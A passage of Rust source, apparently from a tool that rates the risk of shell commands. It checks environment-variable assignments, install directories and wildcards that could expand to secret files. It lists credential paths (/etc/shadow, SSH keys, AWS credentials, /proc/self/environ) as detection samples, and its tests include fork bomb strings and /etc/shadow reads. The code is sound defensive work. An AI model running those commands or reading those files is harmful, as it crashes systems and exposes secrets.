    // GLib programs (flatpak, upower, gdbus) load every module these directories hold.
    "GIO_EXTRA_MODULES",
    "GIO_MODULE_DIR",
    // man's options (`-P PAGER`, `--pager`), for the programs that start man.
    "MANOPT",
];

/// The files `NAME=VALUE` makes the program write as its log: `VIRSH_LOG_FILE=PATH`, each
/// `LEVEL:file:PATH` of `LIBVIRT_LOG_OUTPUTS`.
fn logs_written(assignment: &str) -> Vec<&str> {
    match assignment.split_once('=') {
        Some(("VIRSH_LOG_FILE", path)) => vec![path],
        Some(("LIBVIRT_LOG_OUTPUTS", outputs)) => outputs
            .split_whitespace()
            .filter_map(|output| {
                let mut fields = output.splitn(3, ':');
                let _level = fields.next();
                (fields.next() == Some("file")).then(|| fields.next().unwrap_or(""))
            })
            .collect(),
        _ => Vec::new(),
    }
}

/// The variables that name where a build tool installs the programs it builds, with the
/// directory below the value they land in: `GOBIN=/usr/bin go install x` writes `/usr/bin/x`,
/// `CARGO_INSTALL_ROOT=/usr cargo install x` writes `/usr/bin/x`.
const INSTALL_DIRS: &[(&str, &str)] = &[
    ("GOBIN", ""),
    ("GOPATH", "/bin"),
    ("CARGO_INSTALL_ROOT", "/bin"),
    ("CARGO_HOME", "/bin"),
    ("PIPX_BIN_DIR", ""),
    ("PIPX_HOME", "/bin"),
    ("NPM_CONFIG_PREFIX", "/bin"),
    ("npm_config_prefix", "/bin"),
    ("PYTHONUSERBASE", "/bin"),
    ("GEM_HOME", "/bin"),
    ("BUNDLE_BIN", ""),
];

/// `GOBIN=/usr/bin go install x`, `export CARGO_INSTALL_ROOT=/usr`: the programs installed
/// land in the directory the variable names, under names the line does not show, so that
/// directory's every file is judged written (forbidden for the system's program directories).
fn raise_install_dir(ctx: &Ctx, assignment: &str, j: &mut Judgement) {
    let Some((name, value)) = assignment.split_once('=') else {
        return;
    };
    let Some((_, below)) = INSTALL_DIRS.iter().find(|(n, _)| *n == name) else {
        return;
    };
    // A directory the line cannot show (`GOBIN=$HOME/bin`, `GOBIN=$D`) may be any: a human
    // reads it.
    if value.contains(['$', '`']) {
        j.raise(
            RiskLevel::High,
            format!("{name}={value} installs programs into a directory the line cannot show"),
        );
        return;
    }
    // `GOPATH=/a:/b`: each entry of a list.
    for dir in value.split(':').filter(|d| !d.is_empty()) {
        let written = format!("{}{below}/*", dir.trim_end_matches('/'));
        let (level, reason) = ctx.paths.write(&written);
        if level == RiskLevel::Forbidden {
            j.raise(
                level,
                format!("{name}={dir} installs programs into {written}: {reason}"),
            );
        }
    }
}

/// What setting `NAME=VALUE` for a command risks, if anything.
fn assignment_risk(assignment: &str) -> Option<(RiskLevel, String)> {
    let (name, value) = assignment.split_once('=')?;
    // A terminal's size sizes the lines a program builds, as `ls -w` does: a plain number no
    // wider than any display.
    if matches!(name, "COLUMNS" | "LINES")
        && !value
            .parse::<u64>()
            .is_ok_and(|n| n <= crate::options::WIDEST)
    {
        return Some((
            RiskLevel::Medium,
            format!("{name}={value} sizes the lines the program builds past any display"),
        ));
    }
    // wg's `show` prints the private and preshared keys unless it hides them (its default).
    if name == "WG_HIDE_KEYS" {
        return Some((
            RiskLevel::High,
            format!("{name}={value} makes wg show print private and preshared keys"),
        ));
    }
    // crictl's configuration names the runtime it talks to and may turn on `debug`, which
    // logs each reply whole (labels and annotations): what `crictl -c FILE` is judged.
    if name == "CRI_CONFIG_FILE" {
        return Some((
            RiskLevel::High,
            format!(
                "{name}={value} gives crictl a configuration the line chooses (its runtime endpoint, its debug log of whole replies)"
            ),
        ));
    }
    let harmless = HARMLESS_VARIABLES.contains(&name) || name.starts_with("LC_");
    if harmless && !value.contains('/') {
        return None;
    }
    if CODE_VARIABLES.iter().any(|prefix| name.starts_with(prefix)) {
        return Some((
            RiskLevel::High,
            format!("{name}=... can make the program load or run other code"),
        ));
    }
    Some((
        RiskLevel::Medium,
        format!("{name}=... may change what the program does"),
    ))
}

/// Paths a wildcard is tested against: if it can match one, it may name a secret.
const SECRET_SAMPLES: &[&str] = &[
    "/etc/shadow",
    "/etc/gshadow",
    "/etc/shadow-",
    "/etc/sudoers",
    "/etc/sudoers.d/x",
    "/root/.ssh/id_rsa",
    "/home/user/.ssh/id_ed25519",
    "/home/user/.aws/credentials",
    "/root/.kube/config",
    "/srv/app/.env",
    "/etc/ssl/private/server.key",
    "/var/backups/shadow.bak",
    "/proc/1/environ",
    "/proc/self/environ",
    "/proc/1/mem",
];
const SECRET_NAMES: &[&str] = &[
    "shadow",
    "gshadow",
    ".env",
    ".ssh",
    ".netrc",
    ".pgpass",
    ".git-credentials",
    "id_rsa",
    "id_ed25519",
    "server.key",
    "server.pem",
    "credentials",
    ".aws",
    ".kube",
    ".docker",
    "environ",
];

/// Whether a wildcard word could name a secret or a protected path once a shell expands it.
fn glob_secret(ctx: &Ctx, pattern: &str) -> Option<(RiskLevel, String)> {
    let pattern = crate::glob::bracketless(pattern);
    let absolute = pattern.starts_with('/');
    let normal = if absolute {
        lexical(std::path::Path::new(&pattern))
            .to_string_lossy()
            .into_owned()
    } else {
        pattern.clone()
    };
    for dir in ctx.paths.protected {
        let dir = dir.to_string_lossy();
        let inside = format!("{dir}/x");
        // Some leading part of the pattern can be the directory: the rest is inside it.
        let prefixes = normal
            .match_indices('/')
            .map(|(at, _)| &normal[..at])
            .filter(|prefix| !prefix.is_empty());
        let starts_inside = prefixes
            .chain(std::iter::once(normal.as_str()))
            .any(|prefix| crate::glob::matches(prefix, &dir));
        if starts_inside
            || crate::glob::matches(&normal, &dir)
            || crate::glob::matches(&normal, &inside)
        {
            return Some((
                RiskLevel::Forbidden,
                format!("{pattern} may expand to Warden's own data ({dir})"),
            ));
        }
    }
    // Names the shell writes into the words: the machine ID's (`/var/log/journal/*`), where
    // the pattern's place is known (absolute, or relative to a known directory: `cd DIR &&`).
    let placed = if absolute {
        Some(normal.clone())
    } else {
        ctx.paths
            .base_dir()
            .map(|dir| lexical(&dir.join(&pattern)).to_string_lossy().into_owned())
    };
    if let Some(why) = placed
        .as_deref()
        .and_then(crate::paths::expands_to_machine_id_names)
    {
        return Some((RiskLevel::High, why));
    }
    let hit = if absolute {
        SECRET_SAMPLES
            .iter()
            .find(|sample| crate::glob::matches(&normal, sample))
    } else {
        // A shell's `*` does not match a leading dot.
        SECRET_NAMES
            .iter()
            .filter(|name| !name.starts_with('.') || normal.starts_with('.'))
            .find(|name| crate::glob::matches(&normal, name))
    };
    hit.map(|secret| {
        (
            RiskLevel::High,
            format!("{pattern} may expand to {secret}, which holds secrets"),
        )
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn function_definitions_in_either_spelling() {
        assert_eq!(defined_function("ls() { id; }; ls").as_deref(), Some("ls"));
        assert_eq!(defined_function("f () ( id ); f").as_deref(), Some("f"));
        assert_eq!(defined_function("a && f()\n{ id; }").as_deref(), Some("f"));
        assert_eq!(defined_function("echo 'f() { x; }'"), None);
        assert_eq!(defined_function("echo $(id) {x}"), None);
        assert_eq!(defined_function("diff <(ls) x"), None);
        assert_eq!(defined_function("grep -E '(a)' x"), None);
    }

    #[test]
    fn fork_bombs_in_any_name() {
        assert!(is_fork_bomb(":(){ :|:& };:"));
        assert!(is_fork_bomb("bomb() { bomb | bomb & }; bomb"));
        assert!(!is_fork_bomb("f() { echo hi; }; f"));
    }

    #[test]
    fn path_candidates_of_a_word() {
        assert_eq!(
            candidates("--file=/etc/shadow"),
            vec!["--file=/etc/shadow", "/etc/shadow"]
        );
        assert_eq!(
            candidates("-f/etc/shadow"),
            vec!["-f/etc/shadow", "/etc/shadow"]
        );
        assert_eq!(candidates("nginx"), Vec::<&str>::new());
        assert_eq!(
            candidates("/srv:/etc/shadow"),
            vec!["/srv:/etc/shadow", "/srv", "/etc/shadow"]
        );
    }
}
